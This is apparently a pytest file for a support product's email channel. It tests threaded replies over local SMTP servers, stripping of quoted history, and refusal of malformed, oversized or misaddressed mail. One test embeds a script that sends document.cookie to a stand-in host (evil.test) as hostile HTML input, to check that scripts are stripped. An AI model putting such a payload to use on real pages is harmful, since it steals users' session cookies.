"""E-mail end to end: customer mail into our aiosmtpd listener, the reply out through aiosmtplib to a
local SMTP server (aiosmtpd), threaded; bad mail refused with a clear SMTP error."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import Iterator
from email import message_from_bytes, policy
from email.message import EmailMessage
from typing import Any

import aiosmtplib
import pytest
from aiosmtpd.controller import Controller
from sqlalchemy import select

from tactful.channels.email_transport import strip_quoted
from tactful.channels.smtp_inbound import mail_listener, tenant_of
from tactful.store.schema import decisions
from tests.channels.conftest import Live

CUSTOMER = "ava.customer@example.org"
LONG_THREAD = "\n".join(f"> earlier line {i} of a very long thread" for i in range(3000))


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class Capture:
    def __init__(self) -> None:
        self.mails: list[bytes] = []

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        self.mails.append(envelope.original_content or envelope.content)
        return "250 OK"


@pytest.fixture
def smtp(live: Live) -> Iterator[tuple[Capture, int]]:
    """The provider's SMTP server (captures what we send) and our inbound listener's port."""
    capture = Capture()
    outbound = Controller(capture, hostname="127.0.0.1", port=_free_port())
    outbound.start()
    live.service.credentials.put(
        live.tenant_id,
        "smtp",
        {
            "host": "127.0.0.1",
            "port": str(outbound.port),
            "from_address": "support@acme.test",
            "starttls": "false",
        },
    )
    port = _free_port()
    inbound = mail_listener(live.service.inbound_mail, port=port)
    inbound.start()
    try:
        yield capture, port
    finally:
        inbound.stop()
        outbound.stop()


def _mail(
    live: Live, body: str, *, html: str | None = None, message_id: str = "<m1@example.org>"
) -> EmailMessage:
    mail = EmailMessage()
    mail["From"] = f"Ava <{CUSTOMER}>"
    mail["To"] = f"support+{live.tenant_id}@acme.test"
    mail["Subject"] = "Where is my order?"
    if message_id:
        mail["Message-ID"] = message_id
    mail["References"] = "<m0@example.org>"
    if html is not None and not body:
        mail.set_content(html, subtype="html")
    else:
        mail.set_content(body)
    return mail


def _send(live: Live, port: int, mail: EmailMessage) -> None:
    asyncio.run(aiosmtplib.send(mail, hostname="127.0.0.1", port=port, start_tls=False, timeout=30))


def _decision_count(live: Live) -> int:
    with live.store._db.read() as conn:
        return len(conn.execute(select(decisions.c.decision_id)).all())


def test_a_mail_is_answered_in_its_thread_with_plain_and_html_parts(
    live: Live, smtp: tuple[Capture, int]
) -> None:
    capture, port = smtp
    body = (
        f"Hi, my order is two weeks late. Where is it?\n\nOn Mon, 1 Jun 2026, Support wrote:\n{LONG_THREAD}"
    )
    _send(live, port, _mail(live, body))
    assert _decision_count(live) == 1
    (raw,) = capture.mails
    reply = message_from_bytes(raw, policy=policy.default)
    assert reply["To"] == CUSTOMER and reply["From"] == "support@acme.test"
    assert reply["In-Reply-To"] == "<m1@example.org>"
    assert reply["References"] == "<m0@example.org> <m1@example.org>"
    assert str(reply["Subject"]).startswith("Re: ")
    types = [part.get_content_type() for part in reply.walk()]
    assert "text/plain" in types and "text/html" in types
    # Replayed (the sender's server retried): the same decision, no second reply.
    _send(live, port, _mail(live, body))
    assert _decision_count(live) == 1 and len(capture.mails) == 1


def test_quoted_history_is_stripped_so_long_threads_are_not_refused() -> None:
    text = f"Thanks, that worked!\n\n-- \nAva\n\nOn Tue, Support <s@x> wrote:\n{LONG_THREAD}"
    assert strip_quoted(text) == "Thanks, that worked!"
    outlook = "Still broken.\n\n-----Original Message-----\nFrom: Support\nSent: Monday\nOld text"
    assert strip_quoted(outlook) == "Still broken."


def test_a_malformed_mail_is_refused_with_a_clear_error(live: Live, smtp: tuple[Capture, int]) -> None:
    _, port = smtp
    with pytest.raises(aiosmtplib.SMTPResponseException) as info:
        _send(live, port, _mail(live, "Hello", message_id=""))
    assert info.value.code == 550 and "malformed_mail" in info.value.message
    assert _decision_count(live) == 0


def test_a_25_mb_attachment_is_refused_while_streaming(live: Live, smtp: tuple[Capture, int]) -> None:
    _, port = smtp
    mail = _mail(live, "See the attached video of the broken item.")
    mail.add_attachment(
        b"\0" * (25 * 1024 * 1024), maintype="application", subtype="octet-stream", filename="v.bin"
    )
    with pytest.raises(aiosmtplib.SMTPResponseException) as info:
        _send(live, port, mail)
    assert info.value.code == 552
    assert _decision_count(live) == 0


def test_an_html_only_mail_with_scripts_is_read_as_text_without_them(
    live: Live, smtp: tuple[Capture, int]
) -> None:
    capture, port = smtp
    html = "<html><body><p>My parcel never arrived.</p><script>fetch('https://evil.test/'+document.cookie)</script></body></html>"
    _send(live, port, _mail(live, "", html=html))
    assert _decision_count(live) == 1 and len(capture.mails) == 1
    empty = "<html><body><script>alert(1)</script></body></html>"
    with pytest.raises(aiosmtplib.SMTPResponseException) as info:
        _send(live, port, _mail(live, "", html=empty, message_id="<m2@example.org>"))
    assert info.value.code == 550 and "no readable text" in info.value.message


def test_mail_for_an_unknown_tenant_is_refused(live: Live, smtp: tuple[Capture, int]) -> None:
    _, port = smtp
    assert tenant_of(f"support+{live.tenant_id}@acme.test") == live.tenant_id
    assert tenant_of("support@acme.test") is None
    mail = _mail(live, "Hello there, where is my order?")
    del mail["To"]
    mail["To"] = "support+ten_nobody@acme.test"
    with pytest.raises(aiosmtplib.SMTPResponseException) as info:
        _send(live, port, mail)
    assert info.value.code == 550
